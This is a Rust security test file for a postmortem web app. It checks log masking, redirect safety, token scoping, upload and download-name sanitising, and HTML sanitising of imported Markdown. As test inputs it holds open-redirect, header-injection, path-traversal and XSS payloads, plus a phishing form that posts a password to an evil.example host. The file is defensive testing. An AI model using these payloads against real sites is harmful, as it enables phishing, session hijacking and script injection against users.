//! An attacker's review, surface by surface, in the spirit of an OWASP ASVS level 2 review:
//! what an outsider, a signed-in viewer, an engineer or a compromised webhook receiver would
//! try beyond the cases the other modules test (the threat model is `docs/security.md`).

use std::process::{Command, Stdio};
use std::time::Duration;

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use hindsight::domain::Role;

use crate::harness::{TestApp, form, titled};

/// `hindsight serve` on a free port, logging at `info` to a file, as an operator runs it.
struct LoggedServer {
    child: std::process::Child,
    base: String,
    log: std::path::PathBuf,
}

impl LoggedServer {
    async fn start(database_url: &str) -> LoggedServer {
        let port = std::net::TcpListener::bind("127.0.0.1:0").expect("a free port").local_addr().expect("addr").port();
        let log = std::env::temp_dir().join(format!("hindsight-adversarial-{}-{port}.log", std::process::id()));
        let child = Command::new(env!("CARGO_BIN_EXE_hindsight"))
            .args(["serve", "--listen", &format!("127.0.0.1:{port}")])
            .env("DATABASE_URL", database_url)
            .env("HINDSIGHT_PUBLIC_URL", format!("http://127.0.0.1:{port}"))
            .env("RUST_LOG", "info")
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(&log).expect("a log file"))
            .spawn()
            .expect("start hindsight");
        let server = LoggedServer { child, base: format!("http://127.0.0.1:{port}"), log };
        for _ in 0..300 {
            if reqwest::get(format!("{}/healthz", server.base)).await.is_ok() {
                return server;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        panic!("hindsight did not start");
    }

    /// Everything it logged so far.
    fn log(&self) -> String {
        std::fs::read_to_string(&self.log).expect("the log")
    }
}

impl Drop for LoggedServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        let _ = std::fs::remove_file(&self.log);
    }
}

/// Whoever reads the logs (an operator, a log pipeline) must not be able to act as anyone: a
/// one-time link's secret, a feed's token and a password stay out of them. (A one-time link
/// is a path, and every request's path is logged: it was, secret and all.)
#[tokio::test]
async fn secrets_in_requests_never_reach_the_log() {
    let app = TestApp::anonymous().await;
    let server = LoggedServer::start(&app.database_url).await;
    let added = Command::new(env!("CARGO_BIN_EXE_hindsight"))
        .args(["user", "add", "--admin", "ops@example.com"])
        .env("DATABASE_URL", &app.database_url)
        .env("HINDSIGHT_PUBLIC_URL", &server.base)
        .env("RUST_LOG", "warn")
        .output()
        .expect("run hindsight");
    let stdout = String::from_utf8_lossy(&added.stdout);
    let link = stdout.lines().find(|line| line.contains("/reset/")).expect("a one-time link").trim().to_owned();
    let secret = link.rsplit('/').next().expect("its secret").to_owned();

    let client = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().expect("a client");
    assert_eq!(client.get(&link).send().await.expect("the link").status(), 200);
    let password = "a password only I know 77";
    let set = client
        .post(&link)
        .form(&[("password", password), ("password_confirm", password)])
        .send()
        .await
        .expect("set a password");
    assert_eq!(set.status(), 303);
    let signed_in = client
        .post(format!("{}/login", server.base))
        .form(&[("email", "ops@example.com"), ("password", password)])
        .send()
        .await
        .expect("sign in");
    assert_eq!(signed_in.status(), 303);
    let feed_token = "hst_0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let feed = client.get(format!("{}/feeds/postmortems.atom?token={feed_token}", server.base)).send().await;
    assert_eq!(feed.expect("the feed").status(), 401);
    tokio::time::sleep(Duration::from_millis(200)).await;

    let log = server.log();
    assert!(log.contains("path=/reset/{secret}"), "the link's requests are logged, masked:\n{log}");
    assert!(!log.contains(&secret), "the one-time link's secret is in the log:\n{log}");
    assert!(!log.contains(feed_token), "a feed token is in the log");
    assert!(!log.contains(password), "a password is in the log");
}

/// After signing in, a person is sent back where they were going: only ever to a page of this
/// site, however the address is dressed up.
#[tokio::test]
async fn signing_in_sends_people_back_only_to_this_site() {
    let app = TestApp::anonymous().await;
    let person = app.create_user(Role::Engineer).await;
    let hash = hindsight::auth::password::hash("long enough passphrase".to_owned()).await.expect("hash");
    hindsight::db::users::set_password(&app.pool, person, &hash).await.expect("set");
    let email = hindsight::db::users::find(&app.pool, person).await.expect("q").expect("a user").email;
    for next in [
        "//evil.example/x",
        "/\\evil.example",
        "https://evil.example",
        "http:evil.example",
        "javascript:alert(1)",
        "/\t/evil.example",
        "/\r\nSet-Cookie: x=1",
        "\\\\evil.example",
        " //evil.example",
        "%2F%2Fevil.example",
        "",
    ] {
        let signed_in = app
            .post_form("/login", &[("email", email.as_str()), ("password", "long enough passphrase"), ("next", next)])
            .await;
        assert_eq!(signed_in.status, StatusCode::SEE_OTHER, "{next:?}");
        let location = signed_in.location();
        assert!(
            location.starts_with('/') && !location.starts_with("//") && !location.starts_with("/\\"),
            "{next:?} sent the person to {location:?}"
        );
        assert!(!location.contains(['\r', '\n', '\t']), "{next:?}");
        assert!(signed_in.headers.get_all(header::SET_COOKIE).iter().count() == 1, "{next:?}: one cookie only");
    }
}

/// A token is a password: it is taken only where it is meant to be (the API's header, a
/// feed's query string), never from a cookie or another page's query string, and it acts
/// with its owner's role as it is now.
#[tokio::test]
async fn tokens_are_taken_only_where_they_are_meant_and_act_as_their_owner_is_now() {
    let app = TestApp::new().await;
    let path = app.create_incident(&form()).await;
    let engineer = app.sign_in_as(Role::Engineer).await;
    let created = app.post_form("/account/tokens", &[("name", "script")]).await;
    assert_eq!(created.status, StatusCode::CREATED);
    let secret = created.text(".secret code");
    assert_eq!(created.header("cache-control"), "no-store", "the page showing it is kept by no cache");
    app.set_cookie(None);
    let bearer = |method: &str, uri: &str, value: String, body: &'static str| {
        Request::builder()
            .method(method)
            .uri(uri)
            .header(header::AUTHORIZATION, value)
            .header(header::CONTENT_TYPE, "text/markdown")
            .body(Body::from(body))
            .expect("a request")
    };
    assert_eq!(app.request(bearer("GET", &format!("/api{path}"), format!("Bearer {secret}"), "")).await.status, 200);

    // Not in the API's query string, not as a cookie, not on a page, not with another scheme.
    assert_eq!(app.get(&format!("/api{path}?token={secret}")).await.status, StatusCode::UNAUTHORIZED);
    assert_eq!(app.get(&format!("{path}?token={secret}")).await.status, StatusCode::SEE_OTHER, "a page: to sign in");
    app.set_cookie(Some(format!("hindsight_session={secret}")));
    assert_eq!(app.get(&path).await.status, StatusCode::SEE_OTHER, "a token is not a session");
    app.set_cookie(None);
    for value in
        [format!("Basic {secret}"), format!("Bearer {secret}x"), format!("Bearer {}", &secret[..40]), secret.clone()]
    {
        let refused = app.request(bearer("GET", &format!("/api{path}"), value.clone(), "")).await;
        assert_eq!(refused.status, StatusCode::UNAUTHORIZED, "{value}");
    }

    // Another person cannot revoke it.
    let id: i64 = sqlx::query_scalar("SELECT id FROM api_tokens").fetch_one(&app.pool).await.expect("q");
    app.sign_in_as(Role::Admin).await;
    assert_eq!(app.post_empty(&format!("/account/tokens/{id}/revoke")).await.status, StatusCode::NOT_FOUND);
    app.set_cookie(None);
    assert_eq!(app.request(bearer("GET", &format!("/api{path}"), format!("Bearer {secret}"), "")).await.status, 200);

    // An engineer's token writes; once the engineer is made a viewer, the same token reads only.
    let doc = "# Outage\n\n**Start:** 2025-03-01 10:15 UTC\n";
    let wrote = app.request(bearer("POST", "/api/import?save=true", format!("Bearer {secret}"), doc)).await;
    assert_eq!(wrote.status, StatusCode::CREATED, "{}", wrote.body);
    sqlx::query("UPDATE users SET role = 'viewer' WHERE id = $1").bind(engineer.0).execute(&app.pool).await.expect("q");
    let refused = app.request(bearer("POST", "/api/import?save=true", format!("Bearer {secret}"), doc)).await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
    sqlx::query("UPDATE users SET deactivated_at = now() WHERE id = $1")
        .bind(engineer.0)
        .execute(&app.pool)
        .await
        .expect("q");
    let gone = app.request(bearer("GET", &format!("/api{path}"), format!("Bearer {secret}"), "")).await;
    assert_eq!(gone.status, StatusCode::UNAUTHORIZED, "a deactivated person's token is dead");
    assert_eq!(app.get(&format!("/feeds/postmortems.atom?token={secret}")).await.status, StatusCode::UNAUTHORIZED);
}

/// A download's name comes from a title anyone with an engineer's account can write: it must
/// not add a header, a second file name, a path or an executable's name.
#[tokio::test]
async fn a_title_cannot_dress_up_a_download() {
    let app = TestApp::new().await;
    for title in [
        "report\"; filename=\"payload.exe",
        "report.md\"; filename*=UTF-8''payload.exe",
        "../../../../etc/cron.d/x",
        "C:\\Users\\Public\\x.bat",
        "\u{202e}dm.exe",
        "%0d%0aSet-Cookie: x=1",
        "CON",
    ] {
        let path = app.create_incident(&titled(title)).await;
        let download = app.get(&format!("{path}/export.md")).await;
        assert_eq!(download.status, StatusCode::OK, "{title}");
        let disposition = download.header("content-disposition");
        let name = disposition
            .strip_prefix("attachment; filename=\"")
            .and_then(|rest| rest.strip_suffix('"'))
            .unwrap_or_else(|| panic!("{title}: {disposition}"));
        assert!(
            name.ends_with(".md") && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'.'),
            "{title}: {name}"
        );
        assert!(!name.contains(".."), "{title}: {name}");
        assert_eq!(download.headers.get_all(header::SET_COOKIE).iter().count(), 0, "{title}");
    }
}

/// Uploads are read as text and shown as text: a file's name is never a path or markup, too
/// many files or a broken multipart body is refused with a reason, never a 500.
#[tokio::test]
async fn uploads_are_text_never_paths_markup_or_a_crash() {
    let app = TestApp::new().await;
    app.sign_in_as(Role::Engineer).await;
    let doc: &[u8] = b"# Outage\n\n**Start:** 2025-03-01 10:15 UTC\n";
    let names = ["../../../../etc/passwd.md", "<img src=x onerror=alert(1)>.md", "C:\\boot.ini", "a\u{0}b.md"];
    let parts: Vec<(&str, Option<&str>, &[u8])> = names.iter().map(|name| ("files", Some(*name), doc)).collect();
    let preview = app.post_multipart("/import/preview", &parts).await;
    assert_eq!(preview.status, StatusCode::OK, "{}", preview.body);
    assert!(!preview.body.contains("<img src=x"), "a file name is text, not markup");
    let shown: String = preview.html().root_element().text().collect();
    assert!(shown.contains("<img src=x onerror=alert(1)>.md"), "shown as the text it is");
    assert!(shown.contains("../../../../etc/passwd.md"));

    let many: Vec<(&str, Option<&str>, &[u8])> = (0..25).map(|_| ("files", Some("x.md"), doc)).collect();
    let refused = app.post_multipart("/import/preview", &many).await;
    assert!(refused.body.contains("import at most 20 at a time"), "{}", refused.status);

    for (content_type, body) in [
        ("multipart/form-data", &b"--x\r\n\r\n"[..]),
        (
            "multipart/form-data; boundary=x",
            &b"--x\r\nContent-Disposition: form-data; name=\"files\"; filename=\"a.md\"\r\n\r\nno end"[..],
        ),
        ("multipart/form-data; boundary=", &b""[..]),
        ("text/plain", &b"markdown=x"[..]),
    ] {
        let response = app.post_body("/import/preview", content_type, body.to_vec()).await;
        assert!(response.status.is_client_error(), "{content_type}: {}", response.status);
    }
    assert_eq!(app.count("incidents").await, 0);
}

/// What an imported document (anyone's text, pasted by an engineer) can put on a page: no
/// element that submits, navigates, restyles or rebases the page.
#[tokio::test]
async fn an_imported_document_cannot_take_over_the_page() {
    let app = TestApp::new().await;
    let doc = "# Outage\n\n**Start:** 2025-03-01 10:15 UTC\n\n## Impact\n\n\
        <form action=\"https://evil.example/steal\"><input name=password><button>Sign in again</button></form>\n\n\
        <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">\n\n\
        <base href=\"https://evil.example/\">\n\n<link rel=stylesheet href=\"https://evil.example/x.css\">\n\n\
        <style>body{display:none}</style>\n\n<iframe src=\"https://evil.example\"></iframe>\n\n\
        [continue](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) <a href=\"vbscript:x\">v</a>\n\n\
        <svg onload=alert(1)><use href=\"data:image/svg+xml,x\"/></svg>\n";
    let saved = app.post_body("/api/import?save=true", "text/markdown", doc).await;
    assert_eq!(saved.status, StatusCode::CREATED, "{}", saved.body);
    let id = serde_json::from_str::<serde_json::Value>(&saved.body).expect("JSON")["id"].as_i64().expect("an id");
    let page = app.get(&format!("/incidents/{id}")).await;
    let selector = scraper::Selector::parse("#impact").expect("a selector");
    let impact = page.html().select(&selector).next().expect("the impact section").inner_html();
    for forbidden in [
        "<form",
        "<button",
        "<meta",
        "<base",
        "<link",
        "<style",
        "<iframe",
        "<svg",
        "javascript:",
        "data:text",
        "vbscript:",
        "name=",
        "action=",
        "onload",
    ] {
        assert!(!impact.to_ascii_lowercase().contains(forbidden), "{forbidden} reached the page:\n{impact}");
    }
    // The only input Markdown may make is a task list's tick box, which cannot be changed.
    let inputs = impact.matches("<input").count();
    assert_eq!(inputs, impact.matches("<input disabled=\"\" type=\"checkbox\">").count(), "{impact}");
    assert!(impact.contains("continue"), "the words are kept: {impact}");
}

/// A receiver's secret signs deliveries: only admins see it, and it is in no log, audit entry
/// or delivery record.
#[tokio::test]
async fn a_webhook_secret_is_seen_by_admins_only() {
    let app = TestApp::new().await;
    let added = app
        .post_form("/admin/webhooks", &[("url", "https://hooks.example.com/x"), ("events", "action_item.done")])
        .await;
    assert_eq!(added.status, StatusCode::SEE_OTHER);
    let secret: String = sqlx::query_scalar("SELECT secret FROM webhooks").fetch_one(&app.pool).await.expect("q");
    assert!(app.get(added.location()).await.body.contains(&secret), "the admin sees it");
    assert!(!app.get("/admin/audit").await.body.contains(&secret));
    let audit: Vec<String> =
        sqlx::query_scalar("SELECT summary FROM audit_events").fetch_all(&app.pool).await.expect("q");
    assert!(audit.iter().all(|summary| !summary.contains(&secret)));
    for role in [Role::Viewer, Role::Engineer, Role::Manager] {
        app.sign_in_as(role).await;
        let page = app.get(added.location()).await;
        assert_eq!(page.status, StatusCode::FORBIDDEN, "{role:?}");
        assert!(!page.body.contains(&secret));
    }
}

/// A calendar service keeps a feed's address, token and all, on its own servers: a token made
/// for feeds reads feeds, and the API refuses it (saying why), whatever its owner's role.
#[tokio::test]
async fn a_token_made_for_feeds_reads_feeds_and_nothing_else() {
    let app = TestApp::new().await;
    let path = app.create_incident(&form()).await;
    let admin = app.sign_in_as(Role::Admin).await;
    let account = app.get("/account").await;
    assert_eq!(account.attr("input[name=scope][checked]", "value").as_deref(), Some("feeds"), "offered first");
    let created = app.post_form("/account/tokens", &[("name", "Google Calendar"), ("scope", "feeds")]).await;
    assert_eq!(created.status, StatusCode::CREATED);
    let secret = created.text(".secret code");
    assert!(!created.body.contains("Authorization: Bearer"), "no API instructions for it");
    assert!(app.get("/account").await.texts("td").contains(&"Calendars and feeds only".to_owned()));
    app.set_cookie(None);

    let calendar = app.get(&format!("/feeds/people/{}/due.ics?token={secret}", admin.0)).await;
    assert_eq!(calendar.status, StatusCode::OK);
    assert_eq!(app.get(&format!("/feeds/postmortems.atom?token={secret}")).await.status, StatusCode::OK);
    let api = |method: &str, uri: String| {
        Request::builder()
            .method(method)
            .uri(uri)
            .header(header::AUTHORIZATION, format!("Bearer {secret}"))
            .body(Body::from("# Outage\n\n**Start:** 2025-03-01 10:15 UTC\n"))
            .expect("a request")
    };
    for (method, uri) in [("GET", format!("/api{path}")), ("POST", "/api/import?save=true".to_owned())] {
        let refused = app.request(api(method, uri.clone())).await;
        assert_eq!(refused.status, StatusCode::FORBIDDEN, "{method} {uri}");
        assert!(refused.body.contains("for calendars and feeds only"), "{}", refused.body);
    }
    assert_eq!(app.count("incidents").await, 1);
    let refused_use: Option<time::OffsetDateTime> =
        sqlx::query_scalar("SELECT last_used_at FROM api_tokens").fetch_one(&app.pool).await.expect("q");
    assert!(refused_use.is_some(), "the feeds noted its use");

    // A script's form post with no choice gets an API token, as before there was one.
    app.new_session(admin).await;
    let legacy = app.post_form("/account/tokens", &[("name", "old script")]).await;
    assert_eq!(legacy.status, StatusCode::CREATED);
    assert!(legacy.body.contains("Authorization: Bearer"));
    let unnamed = app.post_form("/account/tokens", &[("name", ""), ("scope", "api")]).await;
    assert_eq!(unnamed.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(unnamed.attr("input[name=scope][checked]", "value").as_deref(), Some("api"), "the choice is kept");
    let unknown = app.post_form("/account/tokens", &[("name", "x"), ("scope", "admin")]).await;
    assert_eq!(unknown.status, StatusCode::BAD_REQUEST);
}
